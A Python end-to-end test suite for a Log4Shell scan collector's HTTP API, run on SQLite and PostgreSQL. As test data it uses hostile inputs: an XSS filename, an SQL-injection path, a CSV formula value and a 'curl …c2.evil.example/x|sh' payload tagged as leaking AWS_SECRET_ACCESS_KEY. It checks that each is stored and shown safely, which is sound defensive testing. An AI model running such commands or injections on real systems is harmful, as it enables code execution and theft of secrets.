"""t_server_api.py - the collector's API end to end, on SQLite and PostgreSQL.

For each backend: schema migrations, tokens and roles, ingest (idempotency,
replacement by newer reports, older reports kept as history only, attempts
appended without duplicates), the summary numbers against the reports sent,
fleet aggregates (same archive on many devices, versions, CVEs, callback
hosts), filters, paging, CSV export, sessions with CSRF, stale devices,
security headers, and a clean shutdown under the sanitizers.
"""
import json
import os
import sys
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from server_common import (Server, attempt, check, check_eq, cli, db_sql, envelope, finding, make_token,  # noqa: E402
                           make_user, mid, new_db, not_ok, ok, process, report)

SCHEMA = 18  # the number of migrations in programs/server/store_schema.c
SHARED = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


def run(kind):
    t = kind + "-"
    try:
        db = new_db(kind, "api")
    except Exception as e:  # PostgreSQL could not be started: that is a failure, not a skip
        not_ok(t + "backend-available", e)
        return
    ok(t + "backend-available")

    # --- migrations
    p = cli(db, "migrate")
    check(t + "migrate", p.returncode == 0 and "schema version %d" % SCHEMA in p.stderr, p.stderr)
    p = cli(db, "migrate")
    check(t + "migrate-idempotent", p.returncode == 0, p.stderr)
    check_eq(t + "migrations-recorded", db_sql(db, "SELECT COUNT(*) FROM schema_migrations"), str(SCHEMA))

    agent = make_token(db, "fleet")
    reader = make_token(db, "siem", "read")
    check(t + "token-format", agent.startswith("l4s_") and len(agent) == 68, agent)
    stored = db_sql(db, "SELECT hash FROM tokens ORDER BY id")
    check(t + "token-stored-hashed", agent not in stored and agent[4:] not in stored and len(stored.split()[0]) == 64,
          stored)
    make_user(db, "admin", "correct horse battery")
    pw = db_sql(db, "SELECT pwhash FROM users")
    check(t + "password-argon2id", pw.startswith("$argon2id$") and "correct horse" not in pw, pw)

    s = Server(db, "--stale-days", "3", name=kind + "-api")

    # --- ingest
    e1 = envelope(mid(1), "web1", tags=["prod", "web"])
    r1 = report(e1, [finding("/srv/a.war!/WEB-INF/lib/log4j-core-2.14.1.jar", sha256=SHARED,
                             cves=["CVE-2021-44228", "CVE-2021-45046"]),
                     finding("/opt/old/log4j-1.2.17.jar", version="1.2.17", component="log4j-1.x",
                             cves=["CVE-2021-4104"], status="mitigated"),
                     process(pid=100, status="vulnerable", ports=[8080], restart=True),
                     attempt(12)])
    st, js = s.submit(agent, r1)
    check(t + "ingest-200", st == 200 and js and js.get("accepted") is True and js.get("duplicate") is False,
          (st, js))
    st, js = s.submit(agent, r1)
    check(t + "ingest-duplicate-idempotent", st == 200 and js and js.get("duplicate") is True, (st, js))

    e2 = envelope(mid(2), "db1", tags=["prod"])
    r2 = report(e2, [finding("/opt/app/log4j-core-2.14.1.jar", sha256=SHARED),
                     process(pid=200, status="vulnerable", ports=[])])
    e3 = envelope(None, "laptop3", tags=["dev"])
    r3 = report(e3, [finding("/home/u/log4j-core-2.17.1.jar", version="2.17.1", status="safe", cves=[]),
                     {"kind": "future-record", "x": 1}])
    e4 = envelope(mid(4), "hostile")
    r4 = report(e4, [finding('/srv/<img src=x onerror=alert(1)>.jar', sha256=SHARED),
                     finding("/srv/'; DROP TABLE devices; --.jar", version="2.0-beta9",
                             cves=["CVE-2021-44228"]),
                     finding("=cmd|' /C calc'!A0.jar", version="2.0-beta9")])
    for name, body in (("device2", r2), ("hostname-only", r3), ("hostile-names", r4)):
        st, js = s.submit(agent, body)
        check(t + "ingest-" + name, st == 200 and js.get("accepted"), (st, js))

    summ = s.get_json("/api/v1/summary", reader)
    check_eq(t + "summary-devices", summ["devices"], 4)
    check_eq(t + "summary-exposed", summ["devices_exposed"], 1)      # db1 has no listening port
    check_eq(t + "summary-findings", summ["findings"], {"vulnerable": 5, "mitigated": 1, "safe": 1})
    check_eq(t + "summary-attacked", summ["devices_attacked"], 1)
    check_eq(t + "summary-restart", summ["processes_restart_required"], 1)
    check_eq(t + "summary-exposed-attacked", summ["devices_exposed_attacked"], 1)

    ov = s.get_json("/api/v1/overview", reader)
    rem = {x["sha256"]: x for x in ov["remediation"]}
    check(t + "same-archive-one-item", rem.get(SHARED, {}).get("devices") == 3 and rem[SHARED]["files"] == 3,
          ov["remediation"])
    cves = {x["cve"]: x for x in ov["by_cve"]}
    check(t + "by-cve", cves.get("CVE-2021-44228", {}).get("devices_vulnerable") == 3 and
          cves["CVE-2021-44228"]["files_vulnerable"] == 5 and cves["CVE-2021-4104"]["devices_mitigated"] == 1,
          ov["by_cve"])
    vers = {(x["component"], x["version"]): x for x in ov["by_version"]}
    check(t + "by-version", vers.get(("log4j-core", "2.14.1"), {}).get("devices_vulnerable") == 3 and
          vers[("log4j-core", "2.0-beta9")]["files_vulnerable"] == 2 and
          vers[("log4j-core", "2.17.1")]["devices_safe"] == 1, ov["by_version"])
    check(t + "callbacks", ov["callbacks"] == [{"host": "203.0.113.7", "domain": "203.0.113.7", "devices": 1,
                                                  "attempts": 1}], ov["callbacks"])
    # the lists behind the overview's tables, filtered
    st, _, data = s.get("/api/v1/remediation", reader)
    rl = json.loads(data)["items"] if st == 200 else []
    check(t + "remediation-list", st == 200 and [(x["sha256"], x["devices"], x["files"]) for x in rl
                                                 if x["sha256"] == SHARED] == [(SHARED, 3, 3)], (st, data[:300]))
    st, _, data = s.get("/api/v1/remediation?status=safe", reader)
    rl = json.loads(data)["items"] if st == 200 else []
    check(t + "remediation-list-by-status", st == 200 and len(rl) == 1 and rl[0]["status"] == "safe",
          (st, data[:300]))
    st, _, data = s.get("/api/v1/versions?component=log4j-core", reader)
    vl = json.loads(data)["items"] if st == 200 else []
    check(t + "versions-by-component", st == 200 and sorted(x["version"] for x in vl) == ["2.0-beta9", "2.14.1", "2.17.1"]
          and all(x["component"] == "log4j-core" for x in vl), (st, data[:300]))
    check(t + "exposed-attacked-first", ov["top_devices"] and ov["top_devices"][0]["hostname"] == "web1",
          ov["top_devices"][:1])
    check(t + "trend-today", ov["trend"] and ov["trend"][0]["devices"] == 4 and ov["trend"][0]["vulnerable"] == 5,
          ov["trend"])

    # --- drill down: every number has its rows
    devs = s.get_json("/api/v1/devices?exposed=1", reader)["items"]
    check_eq(t + "devices-exposed-rows", [d["hostname"] for d in devs], ["web1"])
    web1 = devs[0]["id"]
    devs = s.get_json("/api/v1/devices?sha256=" + SHARED + "&status=vulnerable", reader)["items"]
    check_eq(t + "devices-by-archive", sorted(d["hostname"] for d in devs), ["db1", "hostile", "web1"])
    devs = s.get_json("/api/v1/devices?sha256=" + SHARED + "&status=safe", reader)["items"]
    check_eq(t + "devices-by-archive-and-status", devs, [])
    unknown = "ab" * 32
    check_eq(t + "unknown-archive-no-devices", s.get_json("/api/v1/devices?sha256=" + unknown, reader)["items"], [])
    check_eq(t + "unknown-archive-no-findings", s.get_json("/api/v1/findings?sha256=" + unknown, reader)["items"], [])
    devs = s.get_json("/api/v1/devices?cve=CVE-2021-4104", reader)["items"]
    check_eq(t + "devices-by-cve", [d["hostname"] for d in devs], ["web1"])
    devs = s.get_json("/api/v1/devices?tag=dev", reader)["items"]
    check_eq(t + "devices-by-tag", [d["hostname"] for d in devs], ["laptop3"])
    devs = s.get_json("/api/v1/devices?host=203.0.113.7", reader)["items"]
    check_eq(t + "devices-by-callback-host", [d["hostname"] for d in devs], ["web1"])
    fs = s.get_json("/api/v1/findings?device=%d" % web1, reader)["items"]
    check_eq(t + "findings-of-device", len(fs), 2)
    check(t + "finding-fields", fs[0]["cves"] == ["CVE-2021-44228", "CVE-2021-45046"] and
          fs[0]["evidence"] == ["JndiLookup.class"] and fs[0]["sha256"] == SHARED, fs[0])
    fs = s.get_json("/api/v1/findings?version=2.0-beta9", reader)["items"]
    check_eq(t + "findings-by-version", len(fs), 2)
    fs = s.get_json("/api/v1/findings?path=" + "%25'%3B%20DROP", reader)["items"]
    check_eq(t + "like-filter-escaped-wildcard", len(fs), 0)
    fs = s.get_json("/api/v1/findings?path=" + "'%3B%20DROP", reader)["items"]
    check(t + "sql-injection-text-is-data", len(fs) == 1 and fs[0]["path"] == "/srv/'; DROP TABLE devices; --.jar", fs)
    fs = s.get_json("/api/v1/findings?cve=CVE-2021-44228&status=vulnerable&limit=2", reader)
    check(t + "paging-more", len(fs["items"]) == 2 and fs["more"] is True, fs)
    fs2 = s.get_json("/api/v1/findings?cve=CVE-2021-44228&status=vulnerable&limit=2&page=3", reader)
    check(t + "paging-last-page", len(fs2["items"]) == 1 and fs2["more"] is False, fs2)
    ps = s.get_json("/api/v1/processes?restart=1", reader)["items"]
    check(t + "processes-restart", len(ps) == 1 and ps[0]["pid"] == 100 and ps[0]["listening"][0]["port"] == 8080, ps)
    at = s.get_json("/api/v1/attempts?host=203.0.113.7", reader)["items"]
    check(t + "attempts-by-host", len(at) == 1 and at[0]["line"] == 12 and at[0]["offset"] == 1200, at)
    st, h, data = s.get("/api/v1/findings?device=%d&format=csv" % web1, reader)
    lines = data.decode().splitlines()
    check(t + "csv-export", st == 200 and h["content-type"].startswith("text/csv") and
          lines[0].startswith("id,device_id,hostname,path") and len(lines) == 3, data[:300])
    st, h, data = s.get("/api/v1/findings?version=2.0-beta9&format=csv", reader)
    check(t + "csv-formula-neutralised", "\"'=cmd|" in data.decode(), data[:400])
    st, h, data = s.get("/api/v1/devices?limit=0", reader)
    check_eq(t + "bad-limit-400", st, 400)
    st, h, data = s.get("/api/v1/devices?status=pwned", reader)
    check_eq(t + "bad-status-400", st, 400)

    # --- a newer scan replaces the device's state; history is kept
    e1b = envelope(mid(1), "web1", created="2026-11-28T21:00:00Z")
    r1b = report(e1b, [finding("/srv/a.war!/WEB-INF/lib/log4j-core-2.17.1.jar", version="2.17.1", status="safe",
                               cves=[]),
                       process(pid=101, status="safe", ports=[8080])])
    st, js = s.submit(agent, r1b)
    check(t + "ingest-newer", st == 200 and js["duplicate"] is False, (st, js))
    summ = s.get_json("/api/v1/summary", reader)
    check_eq(t + "remediated-exposed", summ["devices_exposed"], 0)
    check_eq(t + "remediated-findings", summ["findings"], {"vulnerable": 4, "mitigated": 0, "safe": 2})
    check_eq(t + "attempts-survive-scan", summ["devices_attacked"], 1)
    ov = s.get_json("/api/v1/overview", reader)
    rem = {x["sha256"]: x for x in ov["remediation"]}
    check(t + "aggregate-updated", rem.get(SHARED, {}).get("devices") == 2, ov["remediation"])
    if db.startswith("postgres"):
        # agg_delta rows left by a server from before schema 5 (one row per
        # key) are still merged, then deleted
        row = ("INSERT INTO agg_delta(gen, kind, akey, sub, status, files, devices, label)"
               " VALUES(4, 'sha256', '%s', '', 'vulnerable', %d, %d, 'log4j-core 2.14.1')")
        db_sql(db, row % (SHARED, 1, 1))
        rem = {x["sha256"]: x for x in s.get_json("/api/v1/overview", reader)["remediation"]}
        check(t + "old-agg-delta-merged", rem.get(SHARED, {}).get("devices") == 3 and
              db_sql(db, "SELECT COUNT(*) FROM agg_delta") == "0", rem.get(SHARED))
        db_sql(db, row % (SHARED, -1, -1))
        rem = {x["sha256"]: x for x in s.get_json("/api/v1/overview", reader)["remediation"]}
        check(t + "old-agg-delta-undone", rem.get(SHARED, {}).get("devices") == 2, rem.get(SHARED))
        # but a server from before schema 7 can no longer add deltas (it would
        # leave out the per-version CVE counts): its insert is refused
        for old in ("INSERT INTO agg_batch(kinds, akeys, subs, statuses, files, devices, labels)"
                    " VALUES('{cve}', '{X}', '{}', '{safe}', '{1}', '{1}', '{}')",
                    "INSERT INTO agg_delta(kind, akey, sub, status, files, devices, label)"
                    " VALUES('cve', 'X', '', 'safe', 1, 1, '')"):
            try:
                db_sql(db, old)
                not_ok(t + "pre-7-insert-refused", old)
            except RuntimeError as e:
                check(t + "pre-7-insert-refused", "gen" in str(e), e)
    hist = s.get_json("/api/v1/reports?device=%d" % web1, reader)["items"]
    check_eq(t + "history-kept", len(hist), 2)
    # an older report (e.g. from an agent's spool) is kept but does not win
    e1old = envelope(mid(1), "web1", created="2026-11-20T21:00:00Z")
    st, js = s.submit(agent, report(e1old, [finding("/old/log4j-core-2.0.jar", version="2.0")]))
    summ2 = s.get_json("/api/v1/summary", reader)
    check(t + "older-report-not-applied", st == 200 and summ2["findings"] == summ["findings"], summ2)
    hist = s.get_json("/api/v1/reports?device=%d" % web1, reader)["items"]
    check(t + "older-report-in-history", len(hist) == 3 and sum(1 for x in hist if x["applied"] == 0) == 1, hist)

    # --- logs reports append attempts, de-duplicated
    el = envelope(mid(1), "web1", command="logs", created="2026-11-28T22:00:00Z")
    s.submit(agent, report(el, [attempt(12), attempt(13, host="evil.example")], summary=False))
    el2 = envelope(mid(1), "web1", command="logs", created="2026-11-28T23:00:00Z")
    s.submit(agent, report(el2, [attempt(13, host="evil.example"), attempt(14, host="evil.example")], summary=False))
    at = s.get_json("/api/v1/attempts?device=%d" % web1, reader)["items"]
    check_eq(t + "attempts-appended-dedup", sorted(a["line"] for a in at), [12, 13, 14])
    cb = {x["host"]: x for x in s.get_json("/api/v1/callbacks", reader)["items"]}
    check(t + "callback-counts", cb.get("evil.example") == {"host": "evil.example", "domain": "evil.example", "devices": 1,
                                                    "attempts": 2},
          cb)
    # what the agent decoded is kept: a Base64 URL's command (hostile text
    # stored as sent), a non-UTF-8 one as payload_b64, the leaked lookups
    a15 = dict(attempt(15, host="c2.evil.example"), exfil=["env:AWS_SECRET_ACCESS_KEY", "hostName"],
               payload="curl http://c2.evil.example/x|sh <script>")
    a16 = dict(attempt(16, host="c2.evil.example"), payload_b64="/w==")
    el3 = envelope(mid(1), "web1", command="logs", created="2026-11-29T00:00:00Z")
    s.submit(agent, report(el3, [a15, a16], summary=False))
    at = {a["line"]: a for a in s.get_json("/api/v1/attempts?host=c2.evil.example", reader)["items"]}
    check_eq(t + "attempt-payload", at.get(15, {}).get("payload"), "curl http://c2.evil.example/x|sh <script>")
    check_eq(t + "attempt-exfil", at.get(15, {}).get("exfil"), ["env:AWS_SECRET_ACCESS_KEY", "hostName"])
    check_eq(t + "attempt-domain", at.get(15, {}).get("domain"), "evil.example")
    cb = {x["host"]: x for x in s.get_json("/api/v1/callbacks", reader)["items"]}
    check_eq(t + "callback-domain", cb.get("c2.evil.example", {}).get("domain"), "evil.example")
    check_eq(t + "attempt-payload-b64", (at.get(16, {}).get("payload"), at.get(16, {}).get("payload_b64")),
             (None, "/w=="))

    # --- known ids
    ids = [e1["report_id"], e2["report_id"], "00000000-0000-4000-8000-000000000000"]
    known = s.get_json("/api/v1/reports/known?ids=" + ",".join(ids), agent)["known"]
    check_eq(t + "known-ids", sorted(known), sorted(ids[:2]))
    st, h, data = s.get("/api/v1/reports/known?ids=x'or'1", agent)
    check_eq(t + "known-bad-id-400", st, 400)

    # --- who may do what
    st, h, _ = s.get("/api/v1/summary")
    check_eq(t + "no-credentials-401", st, 401)
    st, h, _ = s.get("/api/v1/summary", "l4s_" + "0" * 64)
    check_eq(t + "unknown-token-401", st, 401)
    st, js = s.submit("l4s_" + "1" * 64, r1)
    check_eq(t + "unknown-token-submit-401", st, 401)
    st, h, _ = s.get("/api/v1/summary", agent)
    check_eq(t + "agent-token-cannot-read-403", st, 403)
    st, js = s.submit(reader, r1)
    check_eq(t + "read-token-cannot-submit-403", st, 403)
    st, h, data = s.request("POST", "/api/v1/login", json.dumps({"user": "admin", "password": "wrong"}),
                            {"Content-Type": "application/json"})
    check_eq(t + "login-wrong-401", st, 401)
    st, h, data = s.request("POST", "/api/v1/login", json.dumps({"user": "admin", "password": "correct horse battery"}),
                            {"Content-Type": "text/plain"})
    check_eq(t + "login-needs-json-403", st, 403)
    st, h, data = s.request("POST", "/api/v1/login", json.dumps({"user": "admin", "password": "correct horse battery"}),
                            {"Content-Type": "application/json", "Origin": "http://evil.example"})
    check_eq(t + "login-cross-origin-403", st, 403)
    st, h, data = s.request("POST", "/api/v1/login", json.dumps({"user": "admin", "password": "correct horse battery"}),
                            {"Content-Type": "application/json"})
    cookie = h.get("set-cookie", "")
    check(t + "login-ok", st == 200 and "HttpOnly" in cookie and "SameSite=Strict" in cookie, (st, cookie))
    csrf = json.loads(data).get("csrf", "") if st == 200 else ""
    sess = cookie.split(";")[0]
    st, h, data = s.get("/api/v1/summary", cookie=sess)
    check_eq(t + "session-reads-api", st, 200)
    st, h, data = s.request("POST", "/api/v1/reports", r1, {"Cookie": sess})
    check(t + "session-cannot-submit", st in (401, 403), st)
    st, h, data = s.request("POST", "/api/v1/logout", "", {"Cookie": sess})
    check_eq(t + "logout-without-csrf-403", st, 403)
    st, h, data = s.request("POST", "/api/v1/logout", "", {"Cookie": sess, "X-CSRF-Token": "0" * 64})
    check_eq(t + "logout-wrong-csrf-403", st, 403)
    st, h, data = s.request("POST", "/api/v1/logout", "", {"Cookie": sess, "X-CSRF-Token": csrf})
    check_eq(t + "logout-with-csrf", st, 200)
    st, h, data = s.get("/api/v1/summary", cookie=sess)
    check_eq(t + "session-gone-after-logout", st, 401)
    p = cli(db, "token", "revoke", "--name", "siem")
    # the server caches a valid token for at most 10 s (http_limit.c TOKEN_TTL)
    deadline = time.time() + 15
    while True:
        st, h, data = s.get("/api/v1/summary", reader)
        if st == 401 or time.time() > deadline:
            break
        time.sleep(0.5)
    check(t + "revoked-token-401-within-cache-ttl", p.returncode == 0 and st == 401, (p.stderr, st))

    # --- stale devices: age db1 by ten days in the database
    db_sql(db, "UPDATE devices SET last_seen = last_seen - 864000 WHERE hostname = 'db1'")
    reader2 = make_token(db, "siem2", "read")
    summ = s.get_json("/api/v1/summary", reader2)
    devs = s.get_json("/api/v1/devices?stale=1", reader2)["items"]
    check(t + "stale-flagged", summ["devices_stale"] == 1 and [d["hostname"] for d in devs] == ["db1"] and
          devs[0]["stale"] == 1, (summ, devs))

    # --- characters that PostgreSQL array literals escape (ingest sends a
    # report's findings as arrays) come back as they were sent
    odd = '/srv/q"u\\o{t},e NULL \\".jar'
    st, js = s.submit(agent, report(envelope(mid(7), "odd"), [finding(odd, version='2.0"x', cves=["CVE-2021-44228"])]))
    fs = s.get_json("/api/v1/findings?device=%d" % js.get("device_id", 0), reader2)["items"] if st == 200 else []
    check(t + "array-specials-round-trip", len(fs) == 1 and fs[0]["path"] == odd and fs[0]["version"] == '2.0"x', fs)

    # --- a CVE filter answered from the version index (the aggregates say
    # which versions have the CVE) gives what the plain walk gives when the
    # aggregates cannot be trusted (here: their per-version rows are gone)
    queries = ["findings?cve=CVE-2021-44228", "findings?cve=CVE-2021-44228&status=vulnerable",
               "findings?cve=CVE-2021-4104", "findings?cve=CVE-2099-0001", "devices?cve=CVE-2021-44228",
               "devices?cve=CVE-2021-4104&status=vulnerable", "devices?cve=CVE-2099-0001"]
    narrowed = [s.get_json("/api/v1/" + u, reader2)["items"] for u in queries]
    db_sql(db, "DELETE FROM agg WHERE kind = 'cvever'")
    walked = [s.get_json("/api/v1/" + u, reader2)["items"] for u in queries]
    check(t + "cve-filter-narrowed-equals-walk", narrowed == walked and narrowed[0] and narrowed[1] and narrowed[4],
          [(u, len(a), len(b)) for u, a, b in zip(queries, narrowed, walked)])

    # --- a filter that is not UTF-8 is refused as such (PostgreSQL would
    # otherwise fail the query: 500)
    bad = [s.get("/api/v1/" + u, reader2)[0] for u in ("findings?version=%FF", "findings?cve=%FF%FE",
                                                        "devices?cve=%C3", "devices?hostname=a%80b")]
    check_eq(t + "non-utf8-filter-400", bad, [400, 400, 400, 400])

    # --- the path substring filter (branch pathsearch): matched in `paths`
    # (each distinct path once) and read through findings.path_id when few
    # paths match, else a walk of the findings; either way the rows, order,
    # paging and count of a LIKE over every finding, % and _ taken literally
    pf = [finding("/opt/ps/app%03d/lib/log4j-core-2.14.1.jar" % i) for i in range(150)] + [
        finding(p) for p in ("/opt/ps/odd/100%_sure.jar", "/opt/ps/odd/100xxsure.jar", "/opt/ps/odd/a_b.jar",
                             "/opt/ps/odd/axb.jar", "/opt/ps/odd/back\\slash.jar",
                             "/srv/a.war!/WEB-INF/lib/log4j-core-2.14.1.jar")]   # (web1's path too)
    # these findings in a later block of ids than the first ones (the index
    # is on (id >> 12, path_id)): ids from 40,000 on
    if kind == "pg":
        db_sql(db, "SELECT setval('findings_id_seq', 40000)")
    else:
        db_sql(db, "INSERT INTO paths(path) VALUES('/zz/placeholder');"
                   " INSERT INTO findings(id, device_id, report_id, path, status, path_id)"
                   " SELECT 40000, MIN(id), 'x', '/zz/placeholder', 'safe', (SELECT id FROM paths"
                   "  WHERE path = '/zz/placeholder') FROM devices")
    for n in (8, 9):
        st, js = s.submit(agent, report(envelope(mid(n), "paths%d" % n), pf))
        check(t + "paths-ingest-%d" % n, st == 200 and js.get("accepted"), (st, js))
    # each path once (paths whose findings were replaced since stay: rows of
    # `paths` are never deleted)
    check_eq(t + "paths-distinct", db_sql(db, "SELECT COUNT(*) FROM paths"),
             db_sql(db, "SELECT COUNT(DISTINCT path) FROM paths"))
    check_eq(t + "paths-ids", db_sql(db, "SELECT COUNT(*) FROM findings f LEFT JOIN paths p ON p.id = f.path_id"
                                         " WHERE p.path IS NULL OR p.path <> f.path"), "0")
    paths_checks(t, db, s, reader2)

    # --- headers on every answer
    st, h, data = s.get("/")
    csp = h.get("content-security-policy", "")
    check(t + "csp-header", "script-src 'self'" in csp and "default-src 'self'" in csp and "unsafe-inline" not in csp,
          csp)
    check(t + "nosniff-header", h.get("x-content-type-options") == "nosniff", h)
    st, h, data = s.get("/api/v1/devices", reader2)
    check(t + "api-headers", "content-security-policy" in h and h.get("cache-control") == "no-store", h)
    st, h, data = s.get("/nope")
    check_eq(t + "unknown-path-404", st, 404)

    check(t + "server-alive", s.alive())
    rc = s.stop()
    check(t + "clean-exit", rc == 0 and "ERROR: AddressSanitizer" not in s.log_text() and
          "runtime error" not in s.log_text(), "status %s: %s" % (rc, s.log_text()[-600:]))

    # --- migration 17 over a database filled before it: `paths` and
    # findings.path_id made from the stored findings, the filter as before
    db_sql(db, "DROP INDEX findings_path")
    db_sql(db, "ALTER TABLE findings DROP COLUMN path_id")
    db_sql(db, "DROP TABLE paths")
    db_sql(db, "DELETE FROM schema_migrations WHERE version >= 17")
    p = cli(db, "migrate")
    check(t + "paths-remigrate", p.returncode == 0 and "schema version %d" % SCHEMA in p.stderr, p.stderr)
    check_eq(t + "paths-migrated-distinct", db_sql(db, "SELECT COUNT(*) FROM paths"),
             db_sql(db, "SELECT COUNT(DISTINCT path) FROM findings"))
    check_eq(t + "paths-migrated-ids", db_sql(db, "SELECT COUNT(*) FROM findings f LEFT JOIN paths p"
                                                  " ON p.id = f.path_id WHERE p.path IS NULL OR p.path <> f.path"),
             "0")
    s = Server(db, name=kind + "-api-paths")
    paths_checks(t + "migrated-", db, s, reader2)
    # a new report after the migration: its new path joins, its known ones reuse their ids
    n_paths = int(db_sql(db, "SELECT COUNT(*) FROM paths"))
    st, js = s.submit(agent, report(envelope(mid(10), "paths10"), [finding("/opt/ps/app007/lib/log4j-core-2.14.1.jar"),
                                                                   finding("/opt/ps/new/log4j-core-2.14.1.jar")]))
    check(t + "paths-after-migration-ingest", st == 200 and js.get("accepted"), (st, js))
    check_eq(t + "paths-after-migration-one-new", int(db_sql(db, "SELECT COUNT(*) FROM paths")), n_paths + 1)
    paths_checks(t + "migrated-new-", db, s, reader2)
    rc = s.stop()
    check(t + "paths-clean-exit", rc == 0 and "ERROR: AddressSanitizer" not in s.log_text() and
          "runtime error" not in s.log_text(), "status %s: %s" % (rc, s.log_text()[-600:]))


def paths_checks(t, db, s, reader):
    """findings?path= against a LIKE over every finding (the filter as it was
    before `paths`): ids in order, a page, the count"""
    def like(sub):
        esc = "".join("\\" + ch if ch in "%_\\" else ch for ch in sub).replace("'", "''")
        out = db_sql(db, "SELECT f.id FROM findings f JOIN devices d ON d.id = f.device_id WHERE f.shadowed = 0"
                         " AND d.retired = 0 AND f.path LIKE '%%%s%%' ESCAPE '\\' ORDER BY f.id" % esc)
        return [int(x) for x in out.split()]

    def api(sub, extra=""):
        return s.get_json("/api/v1/findings?limit=500&path=" + urllib.parse.quote(sub, safe="") + extra, reader)

    for name, sub in (("one-path", "app007/"), ("one-path-case", "APP007/"), ("percent-underscore", "100%_sure"),
                      ("underscore", "a_b.jar"), ("backslash", "back\\slash"), ("many", "log4j-core-2.14.1"),
                      ("two-blocks", "srv/a.war!"),
                      ("some", "/app01"), ("none", "no-such-path"), ("everything", "/")):
        want = like(sub)
        got = [f["id"] for f in api(sub)["items"]]
        check_eq(t + "path-filter-" + name, got, want)
    want = like("srv/a.war!")
    check(t + "path-filter-two-blocks-found", min(want or [0]) < 16384 and max(want or [0]) >= 32768, want)
    want = like("app007/")
    check(t + "path-filter-index-matches", len(want) >= 2, want)
    page = s.get_json("/api/v1/findings?limit=1&page=2&count=1&path=app007%2F", reader)
    check(t + "path-filter-page-count", [f["id"] for f in page["items"]] == want[1:2] and page.get("total") == len(want),
          page)
    both = s.get_json("/api/v1/findings?limit=500&status=vulnerable&path=odd%2F", reader)["items"]
    check_eq(t + "path-filter-with-status", sorted(f["path"] for f in both),
             sorted(["/opt/ps/odd/100%_sure.jar", "/opt/ps/odd/100xxsure.jar", "/opt/ps/odd/a_b.jar",
                     "/opt/ps/odd/axb.jar", "/opt/ps/odd/back\\slash.jar"] * len(set(f["device_id"] for f in both))))
    # the id order both ways, a count with another filter, and a version
    # filter (on SQLite the set of matching ids then meets findings_version)
    want = like("app007/")
    got = s.get_json("/api/v1/findings?limit=500&order=desc&path=app007%2F", reader)["items"]
    check_eq(t + "path-filter-desc", [f["id"] for f in got], want[::-1])
    got = s.get_json("/api/v1/findings?limit=500&sort=id&order=asc&path=app007%2F", reader)["items"]
    check_eq(t + "path-filter-sort-id", [f["id"] for f in got], want)
    vuln = [int(x) for x in db_sql(db, "SELECT f.id FROM findings f JOIN devices d ON d.id = f.device_id"
                                       " WHERE f.shadowed = 0 AND d.retired = 0 AND f.status = 'vulnerable'"
                                       " AND f.path LIKE '%app007/%' ORDER BY f.id").split()]
    page = s.get_json("/api/v1/findings?limit=1&page=2&count=1&status=vulnerable&path=app007%2F", reader)
    check(t + "path-filter-status-count", len(vuln) >= 2 and [f["id"] for f in page["items"]] == vuln[1:2] and
          page.get("total") == len(vuln) and page.get("total_capped") is False, (vuln, page))
    got = s.get_json("/api/v1/findings?limit=500&count=1&version=2.14.1&path=app007%2F", reader)
    check(t + "path-filter-with-version", [f["id"] for f in got["items"]] == want and got.get("total") == len(want),
          (want, got))
    # a count over API_COUNT_MAX (10,000): 12,000 findings of one path (a
    # seventh of them a running JVM's copies, not counted), ids 60,000 on
    # over several blocks; removed after
    many = "/zz/many/log4j-core-2.14.1.jar"
    db_sql(db, "INSERT INTO paths(path) SELECT '%s' WHERE NOT EXISTS (SELECT 1 FROM paths WHERE path = '%s')"
           % (many, many))
    rows = ("SELECT 60000 + 3 * i, (SELECT MIN(id) FROM devices WHERE retired = 0), 'x', '%s', 'safe',"
            " (SELECT id FROM paths WHERE path = '%s'), CASE WHEN i %% 7 = 3 THEN 1 ELSE 0 END" % (many, many))
    cols = "INSERT INTO findings(id, device_id, report_id, path, status, path_id, shadowed) "
    if db.startswith("postgres"):
        db_sql(db, cols + rows + " FROM generate_series(0, 11999) AS g(i)")
    else:
        db_sql(db, "WITH RECURSIVE g(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM g WHERE i < 11999) " + cols + rows +
               " FROM g")
    want = like("/zz/many/")
    check(t + "path-filter-many-rows", len(want) > 10000, len(want))
    got = s.get_json("/api/v1/findings?limit=500&count=1&path=%2Fzz%2Fmany%2F", reader)
    check(t + "path-filter-count-capped", [f["id"] for f in got["items"]] == want[:500] and
          got.get("total") == 10000 and got.get("total_capped") is True and got.get("more") is True,
          {k: got.get(k) for k in ("total", "total_capped", "more")})
    got = s.get_json("/api/v1/findings?limit=1&count=1&status=safe&path=%2Fzz%2Fmany%2F", reader)
    check(t + "path-filter-status-count-capped", [f["id"] for f in got["items"]] == want[:1] and
          got.get("total") == 10000 and got.get("total_capped") is True, got)
    got = s.get_json("/api/v1/findings?limit=500&count=1&status=vulnerable&path=%2Fzz%2Fmany%2F", reader)
    check(t + "path-filter-status-count-none", got["items"] == [] and got.get("total") == 0, got)
    got = s.get_json("/api/v1/findings?limit=500&offset=9900&path=%2Fzz%2Fmany%2F", reader)["items"]
    check_eq(t + "path-filter-many-deep-page", [f["id"] for f in got], want[9900:10400])
    got = s.get_json("/api/v1/findings?limit=500&order=desc&path=%2Fzz%2Fmany%2F", reader)["items"]
    check_eq(t + "path-filter-many-desc", [f["id"] for f in got], want[::-1][:500])
    db_sql(db, "DELETE FROM findings WHERE id >= 60000 AND report_id = 'x'")


for backend in ("sqlite", "pg"):
    run(backend)
